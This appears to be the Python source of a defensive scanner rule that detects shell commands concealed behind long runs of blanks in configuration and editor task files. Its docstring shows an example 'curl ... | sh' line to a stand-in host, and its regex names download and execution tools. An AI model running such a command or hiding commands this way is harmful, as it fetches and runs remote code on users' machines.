"""What it sees
    A command behind a long run of blanks in a file that is neither JavaScript nor Python (those have rules of their
    own): shell scripts, editor tasks, YAML, HTML, batch files.

Why it matters
    Whoever scrolls through the file sees an innocent line; the command stands hundreds of columns to the right.

Example
    npm install<200 blanks>; curl -s https://a.test/x | sh

What to do
    Switch line wrapping on and read the line.

False alarms
    Tables and aligned comments: the tail must look like a command.

References
    ATT&CK T1027.010; seen in editor task files of the "fake font" wave, 2025-12.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.commands import uninvited
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.shell import analyse
from lazaretto.parse.text import is_documentation, is_test
from lazaretto.parse.views import TextFile
from lazaretto.parse.workspace import EDITOR_FOLDERS, parent_of

_OTHERS = frozenset(
    [
        ".js", ".mjs", ".cjs", ".jsx", ".ts", ".tsx", ".mts", ".cts", ".py", ".pyw", ".vue", ".svelte", ".csv",
        ".tsv", ".md", ".txt", ".rst", ".map", ".lock", ".svg", ".snap",
    ]
)  # fmt: skip
_BLANKS = re.compile(rb"[ \t]{120,}")
_STARTING = frozenset({"package.json", "tasks.json", "devcontainer.json", ".mcp.json", "mcp.json", "settings.json"})
_COMMAND = re.compile(
    r"(?:^|[;&|\s\"'`>])(?:curl|wget|node|python3?|bash|sh|powershell|pwsh|cmd|eval|iex|iwr|mshta|certutil|npx|osascript)\b[\s.].{0,400}|"
    r"\beval\s{0,4}\(|\bFunction\s{0,4}\(|require\s{0,4}\(|document\.write\(|fromCharCode|atob\("
)


def check(view: TextFile) -> Iterator[Match | Signal]:
    """Look at what follows each long run of blanks."""
    if view.blob.suffix in _OTHERS or is_documentation(view.path) or not _is_configuration(view):
        return
    data = view.blob.data
    if data.startswith(b"SIMPLE  =") and b"\n" not in data[:2880]:
        return  # FITS headers are cards of eighty columns without line breaks: there is no line to scroll along
    for found in _BLANKS.finditer(data[: 4 << 20]):
        if not data[found.end() : found.end() + 1].strip():
            continue
        start = data.rfind(b"\n", 0, found.start()) + 1
        before = data[start : found.start()].strip()
        width = found.end() - found.start()
        if not before and width < 400:
            continue
        tail = data[found.end() : found.end() + 2000].split(b"\n", 1)[0].decode("utf-8", "replace")
        if _COMMAND.search(tail) is None:
            continue
        danger = uninvited(analyse(" ".join(tail.strip("\"', ").split())))
        certain = danger is not None and danger.severity >= Severity.HIGH and not is_test(view.path)
        line, column = view.blob.position(found.end())
        yield Match(
            N_("a command stands {width} columns to the right, out of sight"),
            line=line,
            column=column,
            params={"width": width},
            excerpt=tail[:200],
            severity=Severity.HIGH if certain else Severity.MEDIUM,
            confidence=Confidence.HIGH if certain else Confidence.MEDIUM,
        )
        return


def _is_configuration(view: TextFile) -> bool:
    """JSON is mostly data, and data holds tables; only the files by which something starts are looked at."""
    return view.blob.suffix != ".json" or view.blob.name in _STARTING or parent_of(view.path) in EDITOR_FOLDERS


RULE = Rule(
    id="text/off-screen-command",
    title=N_("A command stands out of sight behind blanks"),
    view=TextFile,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.CONCEAL,
    check=check,
    doc=__doc__,
    techniques=("T1027.010",),
    needles=(b" " * 120, b"\t" * 120),
)
